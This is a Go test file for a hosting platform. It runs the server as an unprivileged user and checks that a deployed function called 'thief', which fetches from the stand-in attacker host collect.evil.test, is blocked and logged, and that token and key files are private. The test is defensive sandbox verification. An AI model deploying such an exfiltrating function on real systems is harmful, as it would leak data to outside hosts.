package platform

// The same walls stand for an ordinary user.

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/weir-run/weir/test/platform/served"
)

const ordinary = 12345 // a user that has nothing on this machine

// TestOrdinaryUser serves a site as a user without rights.
func TestOrdinaryUser(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("this is an ordinary user already: the other tests are what this one would be")
	}
	s := newServer(t)
	if err := os.Chown(s.dir, ordinary, ordinary); err != nil {
		t.Fatal(err)
	}
	s.self = copyOf(t, s.dir)
	s.user = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: ordinary, Gid: ordinary}}
	s.start()
	site, err := s.CreateSite(t.Context(), "shop")
	if err != nil {
		t.Fatal(err)
	}
	thief := served.Archive("thief", `exports.handler = async () => {
		try { return { statusCode: 200, body: await (await fetch("http://collect.evil.test/")).text() } }
		catch (e) { return { statusCode: 200, body: "denied " + (e.cause || e).code } }
	}`)
	if _, err := s.Deploy(t.Context(), site.ID, served.Content{Functions: map[string]served.Source{"thief": thief}}); err != nil {
		t.Fatal(err)
	}
	status, body, err := s.Get(t.Context(), "GET", "shop.localhost", "/.netlify/functions/thief")
	if err != nil || status != 200 || body != "denied EWEIR" {
		t.Errorf("%d %s %v", status, body, err)
	}
	for _, name := range []string{"owner.token", "env.key", "store"} {
		if info, err := os.Stat(filepath.Join(s.dir, name)); err != nil || info.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s can be read by others: %v %v", name, info, err)
		}
	}
	s.kill() // so that its log is whole
	if !strings.Contains(s.log.String(), "denied thief") {
		t.Error("the denial is not in the log")
	}
}

// copyOf puts this binary where every user can run it.
func copyOf(t *testing.T, dir string) string {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	name := filepath.Join(dir, "weir")
	// Not by this process: what it has open for writing, a program that another test starts just then has open, too, and
	// what is open for writing can't be run (execve(2), ETXTBSY).
	if out, err := exec.Command("cp", self, name).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return name
}
